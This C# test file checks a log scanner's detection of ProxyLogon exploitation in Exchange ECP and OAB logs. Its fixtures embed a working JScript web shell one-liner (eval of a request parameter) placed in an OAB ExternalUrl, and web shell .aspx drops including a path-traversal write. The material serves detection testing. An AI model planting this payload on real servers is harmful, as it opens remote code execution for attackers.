using Bulwark.Core.Tests.Support;

namespace Bulwark.Core.Tests.Detection.Exchange;

public sealed class EcpAndOabDetectorTests
{
    private const string EcpHeader = "#Software: Microsoft Exchange Server\n#Version: 15.01.2106.002\n#Log-type: ECP Server Logs\n#Fields: TimeStamp,ServerName,EventId,EventData\n";

    private const string ExploitLine =
        "2021-03-03T07:41:12.345Z,EX01,ECP.Request,\"S:TIME=1024;S:SID=a7b2;S:USR=contoso.local/Users/Administrator;S:REQID=;" +
        "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>'.Identity='a1b2c3d4-0000-4000-8000-000000000001';" +
        "S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?ActivityCorrelationID=x&schema=OABVirtualDirectory&msExchEcpCanary=y\"\n";

    [Fact]
    public void Set_OabVirtualDirectory_with_script_in_ExternalUrl_fires()
    {
        var result = Scan.Files((Scan.Ecp, EcpHeader + ExploitLine));

        var finding = Assert.Single(result.Attacks());
        Assert.Equal("exchange.proxylogon.ecp-vdir-script", finding.DetectionId);
        Assert.Equal("Set-OabVirtualDirectory -ExternalUrl", finding.Subject);
        var evidence = Assert.Single(finding.Evidence);
        Assert.Equal(5, evidence.Line);
        Assert.Equal("Set-OabVirtualDirectory", evidence.Fields["cmdlet"]);
        Assert.StartsWith("http://f/<script language=\"JScript\"", evidence.Fields["value"], StringComparison.Ordinal);
        Assert.Equal("EX01", evidence.Fields["ServerName"]);
    }

    [Fact]
    public void Quoted_command_with_doubled_quotes_fires()
    {
        var line = "2021-03-03T06:59:17.960Z,EX01,ECP.Request,\"S:TIME=340;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity=''ecd24641''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:TNAME=<null>\"\n";
        var result = Scan.Files((Scan.Ecp, EcpHeader + line));

        var finding = Assert.Single(result.Attacks());
        Assert.Equal("Set-OabVirtualDirectory -ExternalUrl", finding.Subject);
        Assert.Equal("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", finding.Evidence[0].Fields["value"]);
    }

    [Fact]
    public void Decoy_from_the_sample_tree_with_a_null_token_does_not_fire()
    {
        var line = "2021-03-02T10:20:33.323Z,EX01,ECP.Request,S:TIME=89;'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.org/owa''.Identity=''EX01\\owa (Default Web Site)''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory;S:TNAME=<null>;S:TID=\n";

        Assert.Empty(Scan.Files((Scan.Ecp, EcpHeader + line)).Attacks());
    }

    [Fact]
    public void Ecp_version_directive_is_not_taken_for_the_server_build()
    {
        var result = Scan.Files((Scan.Ecp, "#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Fields: TimeStamp,ServerName,EventId,EventData\n2021-03-03T06:59:17.960Z,EX01,ECP.Request,S:CMD=Get-Mailbox\n"));

        Assert.Empty(result.Findings);
        Assert.Empty(result.ExchangeBuilds);
    }

    [Fact]
    public void Line_with_stripped_columns_still_fires()
    {
        // helsecert-style excerpt: no header, leading columns and the trailing S:URL cut off.
        var stripped = "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>'\n";
        var result = Scan.Files((Scan.Ecp, EcpHeader + stripped));

        var finding = Assert.Single(result.Attacks());
        Assert.Equal(5, finding.Evidence[0].Line);
    }

    [Theory]
    [InlineData("S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.org/owa'.Identity='EX01\\owa (Default Web Site)'")]
    [InlineData("S:CMD=Get-OabVirtualDirectory.Identity='EX01\\OAB (Default Web Site)'")]
    [InlineData("S:CMD=Set-EcpVirtualDirectory.InternalUrl='https://ex01.contoso.local/ecp'.Comment='<not a url param>'")]
    public void Ordinary_virtual_directory_administration_does_not_fire(string data)
    {
        var result = Scan.Files((Scan.Ecp, EcpHeader + $"2021-03-03T09:00:00.000Z,EX01,ECP.Request,\"{data.Replace("\"", "\"\"")}\"\n"));

        Assert.Empty(result.Attacks());
    }

    [Fact]
    public void Oab_download_outside_ClientAccess_OAB_is_CVE_2021_26858()
    {
        var log = "#Software: Microsoft Exchange Server\n" +
            "2021-03-03T07:45:00.000Z,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx' needs to be removed\n" +
            "2021-03-03T07:46:00.000Z,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a1.lzx' needs to be removed\n" +
            "2021-03-03T07:47:00.000Z,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\z.aspx' needs to be removed\n";
        var result = Scan.Files((Scan.Oab, log));

        var findings = result.Of("exchange.proxylogon.oab-file-write").OrderBy(f => f.Evidence[0].Line).ToList();
        Assert.Equal(2, findings.Count);
        Assert.Equal("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx", findings[0].Subject);
        Assert.Equal(2, findings[0].Evidence[0].Line);
        Assert.EndsWith("z.aspx", findings[1].Subject, StringComparison.Ordinal);
        Assert.Equal(4, findings[1].Evidence[0].Line);
    }
}
